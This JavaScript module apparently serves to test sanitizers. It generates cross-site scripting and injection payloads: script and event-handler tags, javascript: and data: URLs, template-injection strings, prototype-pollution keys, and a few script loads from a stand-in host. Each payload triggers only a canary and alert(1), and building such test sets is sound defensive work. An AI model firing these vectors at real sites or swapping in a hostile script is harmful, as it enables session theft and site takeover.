// Texts that would run as a program wherever a text is taken for markup, an address or code.

const DOES = "window.canary='gone',alert(1)";

const MARKUP = [
  `<script>${DOES}</script>`,
  `<img src=x onerror="${DOES}">`,
  `<svg onload="${DOES}">`,
  `<svg><script>${DOES}</script></svg>`,
  `<svg><animate onbegin="${DOES}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${DOES}</script>"></iframe>`,
  `<iframe src="javascript:parent.${DOES}"></iframe>`,
  `<object data="javascript:${DOES}"></object>`,
  `<embed src="javascript:${DOES}">`,
  `<details open ontoggle="${DOES}">x</details>`,
  `<input autofocus onfocus="${DOES}">`,
  `<video><source onerror="${DOES}"></video>`,
  `<audio src=x onerror="${DOES}">`,
  `<body onload="${DOES}">`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${DOES}">x</b>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${DOES}">`,
  `<template><script>${DOES}</script></template><img src=x onerror="${DOES}">`,
  `<base href="https://example.invalid/"><script src="x.js"></script>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${DOES}">`,
  `<link rel="stylesheet" href="data:text/css,*{color:red}"><img src=x onerror="${DOES}">`,
  `<form action="javascript:${DOES}"><button autofocus>x</button></form>`,
  `<a href="javascript:${DOES}" autofocus onfocus="${DOES}">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${DOES}>">`,
  `<x-y onpointerenter="${DOES}" tabindex=1 onfocus="${DOES}" autofocus>x</x-y>`,
  `<marquee onstart="${DOES}">x</marquee>`,
  `<img src="x\u0000" onerror="${DOES}">`,
  `<ıframe><img/src=x/onerror=${DOES}>`,
];
const ADDRESSES = [
  `javascript:${DOES}`,
  `JaVaScRiPt:${DOES}//`,
  `java\tscript:${DOES}`,
  `data:text/html,<script>parent.${DOES}</script>`,
  `vbscript:${DOES}`,
  `//example.invalid/x.js`,
  `#"><img src=x onerror="${DOES}">`,
];
const CODE = [
  `';${DOES};//`,
  `";${DOES};//`,
  `\`;\${${DOES}}//`,
  `{{constructor.constructor("${DOES}")()}}`,
  `\${${DOES}}`,
  `</script><script>${DOES}</script>`,
  `__proto__`,
  `constructor`,
];
/** What ends the place that a text might stand in. */
const BEFORE = ["", '">', "'>", "</title>", "</textarea>", "-->", "]]>", "</style>", "</option></select>", "&lt;/p&gt;", '" x="', "\\u003c", "é 漢 ", "\u202e"];

/** So many of them, each different, drawn evenly from all. */
export function payloads(n) {
  const all = BEFORE.flatMap((before) => [...MARKUP, ...ADDRESSES, ...CODE].map((text) => before + text));
  return Array.from({ length: n }, (_, at) => all[Math.floor((at * all.length) / n)]);
}
